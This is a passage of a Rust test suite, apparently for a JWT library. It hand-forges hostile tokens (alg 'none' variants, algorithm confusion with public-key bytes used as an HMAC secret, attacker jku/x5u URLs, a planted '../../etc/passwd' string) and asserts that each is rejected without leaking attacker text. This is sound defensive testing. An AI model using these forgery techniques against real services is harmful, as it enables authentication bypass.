//! Hostile tokens, every one forged by hand.
//!
//! Headers and payloads are JSON text written here, base64url-encoded here and
//! signed here with the test key material directly (`ed25519-dalek`, `p256`,
//! `p384`, `rsa`, and `jsonwebtoken` for HMAC), never through `Keys::encode`.
//! Each case names the exact `Error` variant it must produce, runs under
//! `catch_unwind` (a panic fails the case, by name, instead of ending the run)
//! and goes through a canary check: no error's `Display` or `Debug` contains
//! text the attacker chose (kids, header values, claim values, and
//! [`CANARY`], planted in every forged payload).
//!
//! Almost every family runs once per algorithm `claims` supports
//! ([`Algorithm::ALL`]) against a `Keys` holding one key of that algorithm
//! under the kid [`KID`], so each check is shown to hold for HS256, HS384,
//! HS512, EdDSA, ES256, ES384, RS256 and PS256 alike. The positive controls
//! (`hand_forged_tokens_verify_under_every_algorithm`) show the forging itself
//! is right, so a rejection below is the check under test, not a bad forgery.
//!
//! `test_tamper` covers related cases by editing tokens `claims` issued; this
//! suite stands on its own.

mod common;

use std::collections::HashMap;
use std::fmt::Write as _;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::sync::OnceLock;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD as B64};
use claims_core::{Algorithm, Claims, Error, KeyKind, Keys, SigningKey, VerifyingKey};
use common::{AUDIENCE, ISSUER, builder, now, random_bytes};
use rsa::BigUint;
use rsa::pkcs1::{EncodeRsaPrivateKey as _, EncodeRsaPublicKey as _};
use rsa::pkcs8::{EncodePrivateKey as _, EncodePublicKey as _, LineEnding};
use rsa::sha2::{Digest as _, Sha256, Sha512};
use rsa::signature::{RandomizedSigner as _, SignatureEncoding as _, Signer as _};
use rsa::traits::PublicKeyParts as _;
use serde_json::{Value, json};

/// The kid of every loaded key, whatever its algorithm: a token of one
/// algorithm shown to `Keys` of another finds a key, and fails on `alg`.
const KID: &str = "hostile-1";
/// Planted in every forged payload as an undeclared claim: no error may show it.
const CANARY: &str = "canary-7f3a9c-hostile-payload";
const JKU: &str = "https://attacker.example.invalid/jwks.json";
const X5U: &str = "https://attacker.example.invalid/cert.pem";
/// Nesting depth of the deep-JSON cases.
const DEPTH: usize = 10_000;
const MIB: usize = 1 << 20;
/// The size cap of [`roomy`] keys: room for a 10 KB kid and 10,000-deep JSON.
const ROOMY: usize = 4 * MIB;
const DEFAULT_CAP: usize = claims_core::DEFAULT_MAX_TOKEN_SIZE;

/// The claims the hostile tokens decode into: one required public claim and
/// one `serde_json::Value` (the deep-nesting target).
#[derive(Claims)]
struct Ticket {
    #[claim(public)]
    role: String,
    #[claim(public)]
    prefs: Option<Value>,
}

// --- key material -----------------------------------------------------------

/// One key of every algorithm, generated once per test process. [`ours`] is
/// loaded into the `Keys` under test; [`attackers`] never is.
struct Material {
    hs256: [u8; 32],
    hs384: [u8; 48],
    hs512: [u8; 64],
    ed25519: ed25519_dalek::SigningKey,
    p256: p256::ecdsa::SigningKey,
    p384: p384::ecdsa::SigningKey,
    /// One 2048-bit key serves RS256 and PS256 (the `Keys` of the two
    /// algorithms hold the same modulus: even then, `alg` must match).
    rsa: rsa::RsaPrivateKey,
}

fn ours() -> &'static Material {
    static OURS: OnceLock<Material> = OnceLock::new();
    OURS.get_or_init(Material::generate)
}

fn attackers() -> &'static Material {
    static ATTACKERS: OnceLock<Material> = OnceLock::new();
    ATTACKERS.get_or_init(Material::generate)
}

impl Material {
    fn generate() -> Self {
        let mut rng = rand::thread_rng();
        Self {
            hs256: random_bytes(),
            hs384: random_bytes(),
            hs512: random_bytes(),
            ed25519: ed25519_dalek::SigningKey::from_bytes(&random_bytes()),
            p256: p256::ecdsa::SigningKey::random(&mut rng),
            p384: p384::ecdsa::SigningKey::random(&mut rng),
            rsa: rsa::RsaPrivateKey::new(&mut rng, 2048).expect("RSA key generation"),
        }
    }

    /// The raw signature of `input` under this material's `alg` key.
    fn sign(&self, alg: Algorithm, input: &[u8]) -> Vec<u8> {
        match alg {
            Algorithm::HS256 => hmac(jsonwebtoken::Algorithm::HS256, &self.hs256, input),
            Algorithm::HS384 => hmac(jsonwebtoken::Algorithm::HS384, &self.hs384, input),
            Algorithm::HS512 => hmac(jsonwebtoken::Algorithm::HS512, &self.hs512, input),
            Algorithm::EdDSA => self.ed25519.sign(input).to_bytes().to_vec(),
            Algorithm::ES256 => {
                let signature: p256::ecdsa::Signature = self.p256.sign(input);
                signature.to_bytes().to_vec()
            }
            Algorithm::ES384 => {
                let signature: p384::ecdsa::Signature = self.p384.sign(input);
                signature.to_bytes().to_vec()
            }
            Algorithm::RS256 => rsa::pkcs1v15::SigningKey::<Sha256>::new(self.rsa.clone())
                .sign(input)
                .to_vec(),
            Algorithm::PS256 => rsa::pss::SigningKey::<Sha256>::new(self.rsa.clone())
                .sign_with_rng(&mut rand::thread_rng(), input)
                .to_vec(),
            other => panic!("no test signer for {other}"),
        }
    }

    /// The `claims` key for `alg`, loaded through raw bytes, PEM or DER (each
    /// loader is used by some algorithm).
    fn signing_key(&self, alg: Algorithm, kid: &str) -> SigningKey {
        let key = match alg {
            Algorithm::HS256 => SigningKey::hs256(kid, &self.hs256),
            Algorithm::HS384 => SigningKey::hs384(kid, &self.hs384),
            Algorithm::HS512 => SigningKey::hs512(kid, &self.hs512),
            Algorithm::EdDSA => {
                let der = self.ed25519.to_pkcs8_der().expect("PKCS#8");
                SigningKey::from_der(kid, alg, der.as_bytes())
            }
            Algorithm::ES256 => {
                let pem = self.p256.to_pkcs8_pem(LineEnding::LF).expect("PKCS#8");
                SigningKey::from_pem(kid, alg, &pem)
            }
            Algorithm::ES384 => {
                let der = self.p384.to_pkcs8_der().expect("PKCS#8");
                SigningKey::from_der(kid, alg, der.as_bytes())
            }
            Algorithm::RS256 => {
                let pem = self.rsa.to_pkcs8_pem(LineEnding::LF).expect("PKCS#8");
                SigningKey::from_pem(kid, alg, &pem)
            }
            Algorithm::PS256 => {
                let der = self.rsa.to_pkcs1_der().expect("PKCS#1");
                SigningKey::from_der(kid, alg, der.as_bytes())
            }
            other => panic!("no test key for {other}"),
        };
        key.unwrap_or_else(|e| panic!("{alg} test key: {e}"))
    }

    /// The public key as SPKI DER; `None` for HMAC.
    fn spki_der(&self, alg: Algorithm) -> Option<Vec<u8>> {
        let der = match alg {
            Algorithm::EdDSA => self.ed25519.verifying_key().to_public_key_der(),
            Algorithm::ES256 => self.p256.verifying_key().to_public_key_der(),
            Algorithm::ES384 => self.p384.verifying_key().to_public_key_der(),
            Algorithm::RS256 | Algorithm::PS256 => self.rsa.to_public_key().to_public_key_der(),
            _ => return None,
        };
        Some(der.expect("SPKI DER").into_vec())
    }

    /// The public key as SPKI PEM; `None` for HMAC.
    fn spki_pem(&self, alg: Algorithm) -> Option<String> {
        let pem = match alg {
            Algorithm::EdDSA => self
                .ed25519
                .verifying_key()
                .to_public_key_pem(LineEnding::LF),
            Algorithm::ES256 => self.p256.verifying_key().to_public_key_pem(LineEnding::LF),
            Algorithm::ES384 => self.p384.verifying_key().to_public_key_pem(LineEnding::LF),
            Algorithm::RS256 | Algorithm::PS256 => {
                self.rsa.to_public_key().to_public_key_pem(LineEnding::LF)
            }
            _ => return None,
        };
        Some(pem.expect("SPKI PEM"))
    }

    /// Other encodings of the public key an HMAC-confusion attacker might try
    /// as the secret: raw point or modulus, PKCS#1, compressed points.
    fn other_public_encodings(&self, alg: Algorithm) -> Vec<(&'static str, Vec<u8>)> {
        match alg {
            Algorithm::EdDSA => vec![(
                "raw 32-byte point",
                self.ed25519.verifying_key().to_bytes().to_vec(),
            )],
            Algorithm::ES256 => {
                let key = self.p256.verifying_key();
                vec![
                    (
                        "SEC1 uncompressed",
                        key.to_encoded_point(false).as_bytes().to_vec(),
                    ),
                    (
                        "SEC1 compressed",
                        key.to_encoded_point(true).as_bytes().to_vec(),
                    ),
                ]
            }
            Algorithm::ES384 => {
                let key = self.p384.verifying_key();
                vec![
                    (
                        "SEC1 uncompressed",
                        key.to_encoded_point(false).as_bytes().to_vec(),
                    ),
                    (
                        "SEC1 compressed",
                        key.to_encoded_point(true).as_bytes().to_vec(),
                    ),
                ]
            }
            Algorithm::RS256 | Algorithm::PS256 => {
                let public = self.rsa.to_public_key();
                vec![
                    (
                        "PKCS#1 PEM",
                        public
                            .to_pkcs1_pem(LineEnding::LF)
                            .expect("PKCS#1 PEM")
                            .into_bytes(),
                    ),
                    (
                        "PKCS#1 DER",
                        public.to_pkcs1_der().expect("PKCS#1 DER").into_vec(),
                    ),
                    ("modulus", public.n().to_bytes_be()),
                ]
            }
            _ => Vec::new(),
        }
    }

    /// This key as a JWK with kid [`KID`]: what an attacker embeds in a `jwk`
    /// header. For HMAC, the secret itself as an `oct` JWK.
    fn jwk(&self, alg: Algorithm) -> Value {
        let secret: &[u8] = match alg {
            Algorithm::HS256 => &self.hs256,
            Algorithm::HS384 => &self.hs384,
            Algorithm::HS512 => &self.hs512,
            _ => {
                let mut jwk = self
                    .signing_key(alg, "attacker-1")
                    .verifying_key()
                    .expect("a public key")
                    .to_jwk();
                jwk["kid"] = KID.into();
                return jwk;
            }
        };
        json!({"kty": "oct", "kid": KID, "alg": alg.as_str(), "k": B64.encode(secret)})
    }
}

/// HMAC by `jsonwebtoken`, independently of `claims-core`.
fn hmac(alg: jsonwebtoken::Algorithm, secret: &[u8], input: &[u8]) -> Vec<u8> {
    let signature =
        jsonwebtoken::crypto::sign(input, &jsonwebtoken::EncodingKey::from_secret(secret), alg)
            .expect("HMAC signs");
    B64.decode(signature).expect("base64url")
}

/// The `jsonwebtoken` name of an HMAC algorithm.
fn jwt_hmac(alg: Algorithm) -> jsonwebtoken::Algorithm {
    match alg {
        Algorithm::HS256 => jsonwebtoken::Algorithm::HS256,
        Algorithm::HS384 => jsonwebtoken::Algorithm::HS384,
        Algorithm::HS512 => jsonwebtoken::Algorithm::HS512,
        other => panic!("{other} is not HMAC"),
    }
}

const HMAC_ALGS: [Algorithm; 3] = [Algorithm::HS256, Algorithm::HS384, Algorithm::HS512];

// --- the Keys under test ----------------------------------------------------

struct Loaded {
    /// One signing key of each algorithm, kid [`KID`], default settings.
    keys: HashMap<Algorithm, Keys>,
    /// The same keys with a 4 MiB size cap.
    roomy: HashMap<Algorithm, Keys>,
    /// Verify-only: the public key alone, from SPKI PEM (asymmetric only).
    public: HashMap<Algorithm, Keys>,
}

fn loaded() -> &'static Loaded {
    static LOADED: OnceLock<Loaded> = OnceLock::new();
    LOADED.get_or_init(|| {
        let mut loaded = Loaded {
            keys: HashMap::new(),
            roomy: HashMap::new(),
            public: HashMap::new(),
        };
        for alg in Algorithm::ALL {
            let key = ours().signing_key(alg, KID);
            let keys = builder().signing_key(key.clone()).build().expect("keys");
            let roomy = builder()
                .max_token_size(ROOMY)
                .signing_key(key)
                .build()
                .expect("roomy keys");
            loaded.keys.insert(alg, keys);
            loaded.roomy.insert(alg, roomy);
            if let Some(pem) = ours().spki_pem(alg) {
                let public = VerifyingKey::from_pem(KID, alg, &pem).expect("SPKI PEM loads");
                let keys = builder().verifying_key(public).build().expect("keys");
                loaded.public.insert(alg, keys);
            }
        }
        loaded
    })
}

fn keys(alg: Algorithm) -> &'static Keys {
    &loaded().keys[&alg]
}

fn roomy(alg: Algorithm) -> &'static Keys {
    &loaded().roomy[&alg]
}

fn public_keys(alg: Algorithm) -> Option<&'static Keys> {
    loaded().public.get(&alg)
}

/// The public key alone (asymmetric algorithms).
fn verifying_key(alg: Algorithm) -> Option<VerifyingKey> {
    ours().signing_key(alg, KID).verifying_key()
}

// --- forging ------------------------------------------------------------------

/// A JSON object written member by member as text: names and values go in
/// byte for byte, so duplicates, escapes and odd values are expressible.
#[derive(Clone, Default)]
struct Obj(Vec<(String, String)>);

impl Obj {
    /// Appends `"name":raw`, even if `name` is already there.
    fn push(mut self, name: &str, raw: impl Into<String>) -> Self {
        self.0.push((name.to_string(), raw.into()));
        self
    }

    /// Replaces the value of the first member called `name`, or appends it.
    fn set(mut self, name: &str, raw: impl Into<String>) -> Self {
        let raw = raw.into();
        match self.0.iter_mut().find(|(n, _)| n == name) {
            Some(member) => member.1 = raw,
            None => self.0.push((name.to_string(), raw)),
        }
        self
    }

    fn without(mut self, name: &str) -> Self {
        self.0.retain(|(n, _)| n != name);
        self
    }

    fn text(&self) -> String {
        let members: Vec<String> = self
            .0
            .iter()
            .map(|(name, raw)| format!(r#""{name}":{raw}"#))
            .collect();
        format!("{{{}}}", members.join(","))
    }
}

/// `text` as a JSON string literal.
fn q(text: &str) -> String {
    serde_json::to_string(text).expect("a JSON string")
}

/// The header `claims` issues for `alg` under [`KID`].
fn header(alg: Algorithm) -> Obj {
    Obj::default()
        .push("alg", q(alg.as_str()))
        .push("typ", q("JWT"))
        .push("kid", q(KID))
}

/// A valid claim set, with [`CANARY`] as an undeclared claim.
fn claims() -> Obj {
    let now = now();
    Obj::default()
        .push("iss", q(ISSUER))
        .push("aud", q(AUDIENCE))
        .push("iat", now.to_string())
        .push("nbf", now.to_string())
        .push("exp", (now + 300).to_string())
        .push("jti", q("hostile-jti-0001"))
        .push("role", q("reader"))
        .push("note", q(CANARY))
}

/// `h.p.sig`, `sig` being `by`'s `alg` signature over `h.p` (segments as given).
fn forge_segments(by: &Material, alg: Algorithm, h: &str, p: &str) -> String {
    let input = format!("{h}.{p}");
    let signature = by.sign(alg, input.as_bytes());
    format!("{input}.{}", B64.encode(signature))
}

/// A token of these exact header and payload texts, signed by `by`'s `alg` key.
fn forge_by(by: &Material, alg: Algorithm, header: &str, payload: &str) -> String {
    forge_segments(by, alg, &B64.encode(header), &B64.encode(payload))
}

/// A token of these header and payload objects, signed by our `alg` key.
fn forge(alg: Algorithm, header: &Obj, payload: &Obj) -> String {
    forge_by(ours(), alg, &header.text(), &payload.text())
}

/// A valid token of our `alg` key.
fn valid(alg: Algorithm) -> String {
    forge(alg, &header(alg), &claims())
}

fn split(token: &str) -> (&str, &str, &str) {
    let mut parts = token.split('.');
    let parts = (
        parts.next().expect("header"),
        parts.next().expect("payload"),
        parts.next().expect("signature"),
    );
    assert!(!token.ends_with('.'), "a valid token has a signature");
    parts
}

/// `json` nested `depth` times around `1`: `[[[1]]]` or `{"a":{"a":1}}`.
fn deep(depth: usize, objects: bool) -> String {
    let (open, close) = if objects {
        (r#"{"a":"#, "}")
    } else {
        ("[", "]")
    };
    format!("{}1{}", open.repeat(depth), close.repeat(depth))
}

/// `b64` with the lowest unused bit of its last character set: the same
/// bytes to a lenient decoder, a non-canonical spelling to a strict one.
fn non_canonical(b64: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    assert_ne!(b64.len() % 4, 0, "{b64} has no unused bits");
    let (head, last) = b64.split_at(b64.len() - 1);
    let index = ALPHABET
        .iter()
        .position(|&c| c == last.as_bytes()[0])
        .expect("a base64url character");
    let spelled = format!("{head}{}", char::from(ALPHABET[index ^ 1]));
    assert!(
        B64.decode(&spelled).is_err(),
        "the engine rejects {spelled}"
    );
    spelled
}

/// `obj`'s text with trailing JSON whitespace so its base64url has unused bits.
fn unaligned(obj: &Obj) -> String {
    let mut text = obj.text();
    while text.len() % 3 != 1 {
        text.push(' ');
    }
    text
}

/// `obj` with a filler member chosen so its base64url contains both `-` and
/// `_`, which the standard alphabet spells `+` and `/`.
fn with_url_only_characters(obj: &Obj) -> Obj {
    (0..3)
        .map(|pad| {
            let filler = format!("{}~~~???~~~???>>>", "a".repeat(pad));
            obj.clone().push("x-fill", q(&filler))
        })
        .find(|candidate| {
            let encoded = B64.encode(candidate.text());
            encoded.contains('-') && encoded.contains('_')
        })
        .expect("a filler that yields both - and _")
}

/// `text`'s base64 in the standard alphabet, checked to differ from base64url.
fn standard_alphabet(text: &str) -> String {
    let standard = STANDARD_NO_PAD.encode(text);
    assert_ne!(standard, B64.encode(text), "the alphabets differ here");
    assert!(standard.contains('+') && standard.contains('/'));
    standard
}

/// `text` with `insert` placed at its middle (on a char boundary).
fn insert_middle(text: &str, insert: &str) -> String {
    let mut at = text.len() / 2;
    while !text.is_char_boundary(at) {
        at += 1;
    }
    format!("{}{insert}{}", &text[..at], &text[at..])
}

// --- cases and the runner -------------------------------------------------------

/// What a case must produce.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Expect {
    /// Decodes (a positive control, or a header the check must ignore).
    Accepted,
    /// Exactly this error.
    Is(Error),
    /// `Error::Malformed`, whatever its message.
    Malformed,
}

impl Expect {
    fn matches(&self, outcome: &Result<(), Error>) -> bool {
        match (self, outcome) {
            (Expect::Accepted, Ok(())) | (Expect::Malformed, Err(Error::Malformed(_))) => true,
            (Expect::Is(expected), Err(got)) => expected == got,
            _ => false,
        }
    }
}

type Check = Box<dyn Fn(&str) -> Result<(), Error>>;

/// `Keys::decode` into [`Ticket`].
fn decode_with(keys: &'static Keys) -> Check {
    Box::new(move |token| keys.decode::<Ticket>(token).map(drop))
}

/// `Keys::decode` under keys built for one case.
fn decode_with_owned(keys: Keys) -> Check {
    Box::new(move |token| keys.decode::<Ticket>(token).map(drop))
}

/// `verify_compact` under the public key (asymmetric) or the secret (HMAC).
fn compact_with(alg: Algorithm) -> Check {
    if let Some(key) = verifying_key(alg) {
        Box::new(move |token| key.verify_compact(token).map(drop))
    } else {
        let key = ours().signing_key(alg, KID);
        Box::new(move |token| key.verify_compact(token).map(drop))
    }
}

struct Case {
    name: String,
    check: Check,
    token: String,
    expect: Expect,
    /// Attacker-chosen texts that must not appear in the error.
    planted: Vec<String>,
}

impl Case {
    fn new(name: impl Into<String>, check: Check, token: String, expect: Expect) -> Self {
        Self {
            name: name.into(),
            check,
            token,
            expect,
            planted: vec![CANARY.to_string()],
        }
    }

    /// Decoded by `keys`.
    fn decode(name: impl Into<String>, keys: &'static Keys, token: String, expect: Expect) -> Self {
        Self::new(name, decode_with(keys), token, expect)
    }

    fn planted(mut self, text: impl Into<String>) -> Self {
        self.planted.push(text.into());
        self
    }
}

/// The first planted text of at least 4 bytes that `err` shows.
fn leak<'a>(err: &Error, planted: &'a [String]) -> Option<&'a str> {
    let shown = [format!("{err}"), format!("{err:?}")];
    planted
        .iter()
        .map(String::as_str)
        .filter(|text| text.len() >= 4)
        .find(|text| shown.iter().any(|s| s.contains(text)))
}

/// Runs every case: exact outcome, no panic, no planted text in the error.
/// Reports every failing case at once.
fn run(family: &str, cases: &[Case]) {
    let mut failures = String::new();
    for case in cases {
        let Ok(outcome) = catch_unwind(AssertUnwindSafe(|| (case.check)(&case.token))) else {
            let _ = writeln!(failures, "  {}: PANICKED", case.name);
            continue;
        };
        if !case.expect.matches(&outcome) {
            let _ = writeln!(
                failures,
                "  {}: expected {:?}, got {outcome:?}",
                case.name, case.expect
            );
        }
        if let Err(err) = &outcome
            && let Some(text) = leak(err, &case.planted)
        {
            let _ = writeln!(failures, "  {}: the error shows {text:?}", case.name);
        }
    }
    eprintln!("{family}: {} hostile cases", cases.len());
    assert!(failures.is_empty(), "{family}: failing cases:\n{failures}");
}

#[test]
fn the_runner_reports_wrong_variants_leaks_and_panics() {
    let bad = [
        Case::new(
            "wrong variant",
            Box::new(|_| Err(Error::Signature)),
            String::new(),
            Expect::Is(Error::Algorithm),
        ),
        Case::new(
            "unexpected success",
            Box::new(|_| Ok(())),
            String::new(),
            Expect::Malformed,
        ),
        Case::new(
            "leaks the canary",
            Box::new(|_| Err(Error::Malformed("canary-7f3a9c-hostile-payload"))),
            String::new(),
            Expect::Malformed,
        ),
        Case::new(
            "leaks a planted text",
            Box::new(|_| Err(Error::Key("../../etc/passwd"))),
            String::new(),
            Expect::Is(Error::Key("../../etc/passwd")),
        )
        .planted("../../etc/passwd"),
        Case::new(
            "panics",
            Box::new(|_| panic!("a deliberate panic in the runner's self-test")),
            String::new(),
            Expect::Accepted,
        ),
    ];
    for case in bad {
        let name = case.name.clone();
        let caught = catch_unwind(AssertUnwindSafe(|| run("self-test", &[case])));
        assert!(caught.is_err(), "the runner let `{name}` pass");
    }
    run(
        "self-test",
        &[Case::new(
            "fine",
            Box::new(|_| Ok(())),
            String::new(),
            Expect::Accepted,
        )],
    );
}

// --- positive controls ----------------------------------------------------------

#[test]
fn every_algorithm_round_trips_through_keys() {
    for alg in Algorithm::ALL {
        let keys = keys(alg);
        let ticket = Ticket {
            role: "reader".to_string(),
            prefs: Some(json!({"theme": "dark"})),
        };
        let token = keys.encode(&ticket).expect("encodes");
        let (h, _, _) = split(&token);
        let issued: Value = serde_json::from_slice(&B64.decode(h).expect("b64")).expect("JSON");
        assert_eq!(issued["alg"], alg.as_str());
        let verified = keys.decode::<Ticket>(&token).expect("decodes");
        assert_eq!(verified.role, "reader");
        assert_eq!(verified.prefs, ticket.prefs);
        if let Some(public) = public_keys(alg) {
            let verified = public
                .decode::<Ticket>(&token)
                .expect("verify-only decodes");
            assert_eq!(verified.role, "reader");
        }
        let payload = ours()
            .signing_key(alg, KID)
            .verify_compact(&token)
            .expect("a bare JWS too");
        assert!(payload.starts_with(br#"{"iss":"#), "{alg}");
    }
}

#[test]
fn hand_forged_tokens_verify_under_every_algorithm() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        let ok = |name: &str, keys: &'static Keys, token: String| {
            Case::decode(format!("{alg}: {name}"), keys, token, Expect::Accepted)
        };
        cases.push(ok("as issued", keys(alg), valid(alg)));
        cases.push(ok("under a 4 MiB cap", roomy(alg), valid(alg)));
        if let Some(public) = public_keys(alg) {
            cases.push(ok("verify-only keys", public, valid(alg)));
        }
        // JSON is parsed, not compared as bytes.
        let spaced = format!(
            r#"{{ "alg" : "{alg}" ,
 "typ" : "JWT" , "kid" : "{KID}" }}"#
        );
        cases.push(ok(
            "whitespace in the header",
            keys(alg),
            forge_by(ours(), alg, &spaced, &claims().text()),
        ));
        let name = alg.as_str();
        let escaped_alg = format!(r#""\u{:04x}{}""#, u32::from(name.as_bytes()[0]), &name[1..]);
        cases.push(ok(
            "alg spelled with a JSON escape",
            keys(alg),
            forge(alg, &header(alg).set("alg", escaped_alg), &claims()),
        ));
        cases.push(ok(
            "kid spelled with a JSON escape",
            keys(alg),
            forge(
                alg,
                &header(alg).set("kid", r#""\u0068ostile-1""#),
                &claims(),
            ),
        ));
        cases.push(ok(
            "typ in lower case",
            keys(alg),
            forge(alg, &header(alg).set("typ", q("jwt")), &claims()),
        ));
        cases.push(ok(
            "iss with escaped slashes",
            keys(alg),
            forge(
                alg,
                &header(alg),
                &claims().set("iss", q(ISSUER).replace('/', r"\/")),
            ),
        ));
        cases.push(ok(
            "aud as a spaced array holding ours",
            keys(alg),
            forge(
                alg,
                &header(alg),
                &claims().set("aud", format!(r#"[ "billing-api" , {} ]"#, q(AUDIENCE))),
            ),
        ));
        cases.push(ok(
            "unknown header members (b64 without crit, zip, enc)",
            keys(alg),
            forge(
                alg,
                &header(alg)
                    .push("b64", "false")
                    .push("zip", q("DEF"))
                    .push("enc", q("A256GCM"))
                    .push("x-hostile", "[1,{}]"),
                &claims(),
            ),
        ));
        cases.push(ok(
            "a deep undeclared claim is skipped without recursion",
            roomy(alg),
            forge(
                alg,
                &header(alg),
                &claims().push("x-deep", deep(DEPTH, false)),
            ),
        ));
    }
    run("positive controls", &cases);
}

// --- alg ---------------------------------------------------------------------------

#[test]
fn alg_none_in_every_spelling_is_algorithm() {
    // `none` in any ASCII case, escaped, and near-spellings (which are not
    // `none` but are not the key's algorithm either).
    let nones = [
        q("none"),
        q("None"),
        q("NONE"),
        q("nOnE"),
        q("NoNe"),
        q("nonE"),
        r#""\u006eone""#.to_string(),
        r#""\u004e\u004f\u004e\u0045""#.to_string(),
    ];
    let near = [
        q("none "),
        q(" none"),
        q("none\0"),
        q("nonе"), /* Cyrillic е */
        q(""),
    ];
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        for (is_none, spelling) in nones
            .iter()
            .map(|s| (true, s))
            .chain(near.iter().map(|s| (false, s)))
        {
            let full = header(alg).set("alg", spelling.as_str());
            let bare = Obj::default().push("alg", spelling.as_str());
            // `none` is refused before anything else is read, so a header of
            // `alg` alone fails on it too; near-spellings need typ and kid.
            let shapes: &[(&str, &Obj)] = if is_none {
                &[("full header", &full), ("alg only", &bare)]
            } else {
                &[("full header", &full)]
            };
            for &(shape, h) in shapes {
                let input = format!("{}.{}", B64.encode(h.text()), B64.encode(claims().text()));
                let ours_signature = B64.encode(ours().sign(alg, input.as_bytes()));
                for (sig_name, sig) in [
                    ("empty signature", String::new()),
                    ("our key's signature", ours_signature),
                    ("junk signature", "AAAA".to_string()),
                ] {
                    cases.push(
                        Case::decode(
                            format!("{alg}: alg {spelling}, {shape}, {sig_name}"),
                            keys(alg),
                            format!("{input}.{sig}"),
                            Expect::Is(Error::Algorithm),
                        )
                        .planted(spelling.trim_matches('"')),
                    );
                }
            }
        }
    }
    run("alg none", &cases);
}

#[test]
fn a_missing_null_foreign_or_non_string_alg_is_rejected() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        let mut push = |what: &str, h: Obj, expect: Expect| {
            cases.push(Case::decode(
                format!("{alg}: {what}"),
                keys(alg),
                forge(alg, &h, &claims()),
                expect,
            ));
        };
        // Absent or null: no algorithm named.
        push(
            "alg missing",
            header(alg).without("alg"),
            Expect::Is(Error::Algorithm),
        );
        push(
            "alg null",
            header(alg).set("alg", "null"),
            Expect::Is(Error::Algorithm),
        );
        // Not a string: the header does not have the expected shape.
        for raw in ["256", "true", "1.5", "[]", "{}"] {
            push(
                &format!("alg {raw}"),
                header(alg).set("alg", raw),
                Expect::Malformed,
            );
        }
        push(
            "alg as an array holding the key's algorithm",
            header(alg).set("alg", format!("[{}]", q(alg.as_str()))),
            Expect::Malformed,
        );
        push(
            "alg as an object",
            header(alg).set("alg", format!(r#"{{"name":{}}}"#, q(alg.as_str()))),
            Expect::Malformed,
        );
        // A string that is not exactly the key's algorithm.
        let near = [
            alg.as_str().to_lowercase(),
            alg.as_str().to_uppercase(),
            format!("{} ", alg.as_str()),
            format!(" {}", alg.as_str()),
            format!("{}\0", alg.as_str()),
        ];
        for name in near.iter().filter(|n| *n != alg.as_str()) {
            push(
                &format!("alg {name:?}"),
                header(alg).set("alg", q(name)),
                Expect::Is(Error::Algorithm),
            );
        }
        // Every other algorithm, supported or not, with our key's own signature.
        let others = Algorithm::ALL.iter().map(|a| a.as_str()).chain([
            "RS384", "RS512", "PS384", "PS512", "ES512", "ES256K", "Ed25519", "HS1",
        ]);
        for other in others.filter(|o| *o != alg.as_str()) {
            push(
                &format!("alg {other}"),
                header(alg).set("alg", q(other)),
                Expect::Is(Error::Algorithm),
            );
        }
    }
    run("alg", &cases);
}

/// A token signed by one algorithm's key, shown to `Keys` whose key of the
/// same kid has another algorithm: refused on `alg` for every pair; and a
/// header naming the key's algorithm over another algorithm's signature
/// fails on the signature.
#[test]
fn same_kid_other_algorithm_is_algorithm() {
    let mut cases = Vec::new();
    for signed_as in Algorithm::ALL {
        let token = valid(signed_as);
        for loaded_as in Algorithm::ALL.into_iter().filter(|a| *a != signed_as) {
            cases.push(Case::decode(
                format!("{signed_as} token, {loaded_as} key"),
                keys(loaded_as),
                token.clone(),
                Expect::Is(Error::Algorithm),
            ));
            if let Some(public) = public_keys(loaded_as) {
                cases.push(Case::decode(
                    format!("{signed_as} token, {loaded_as} verify-only key"),
                    public,
                    token.clone(),
                    Expect::Is(Error::Algorithm),
                ));
            }
            cases.push(Case::decode(
                format!("{loaded_as} header over a {signed_as} signature"),
                keys(loaded_as),
                forge_by(
                    ours(),
                    signed_as,
                    &header(loaded_as).text(),
                    &claims().text(),
                ),
                Expect::Is(Error::Signature),
            ));
        }
    }
    run("same kid, other algorithm", &cases);
}

/// The classic confusion: HS256 (or HS384/HS512) keyed with the bytes of the
/// service's public key, which the attacker knows, in every encoding. The
/// header names HMAC, the key is asymmetric: refused on `alg` before any MAC
/// is computed, by full and verify-only `Keys` and by `verify_compact`.
#[test]
fn public_key_bytes_as_an_hmac_secret_is_algorithm() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL.into_iter().filter(|a| !a.is_symmetric()) {
        let pem = ours().spki_pem(alg).expect("asymmetric");
        let jwk = verifying_key(alg).expect("asymmetric").to_jwk().to_string();
        let mut secrets: Vec<(&str, Vec<u8>)> = vec![
            ("SPKI PEM", pem.clone().into_bytes()),
            ("SPKI PEM with CRLF", pem.replace('\n', "\r\n").into_bytes()),
            (
                "SPKI PEM without its last newline",
                pem.trim_end().as_bytes().to_vec(),
            ),
            ("SPKI DER", ours().spki_der(alg).expect("asymmetric")),
            ("public JWK", jwk.into_bytes()),
        ];
        secrets.extend(ours().other_public_encodings(alg));
        for (encoding, secret) in &secrets {
            for hs in HMAC_ALGS {
                let h = header(hs).text();
                let input = format!("{}.{}", B64.encode(&h), B64.encode(claims().text()));
                let mac = hmac(jwt_hmac(hs), secret, input.as_bytes());
                let token = format!("{input}.{}", B64.encode(mac));
                let name = format!("{alg} key, {hs} keyed with its {encoding}");
                cases.push(Case::decode(
                    format!("{name} (signing keys)"),
                    keys(alg),
                    token.clone(),
                    Expect::Is(Error::Algorithm),
                ));
                cases.push(Case::decode(
                    format!("{name} (verify-only keys)"),
                    public_keys(alg).expect("asymmetric"),
                    token.clone(),
                    Expect::Is(Error::Algorithm),
                ));
                cases.push(Case::new(
                    format!("{name} (verify_compact)"),
                    compact_with(alg),
                    token,
                    Expect::Is(Error::Algorithm),
                ));
            }
        }
    }
    run("key confusion", &cases);
}

// --- keys named or carried by the header --------------------------------------------

/// `jwk`, `jku`, `x5u` and `x5c` carrying the attacker's key or URL: a token
/// signed by the attacker's key fails on the signature (the header's key is
/// never used, the URLs never fetched); the same headers on a token signed
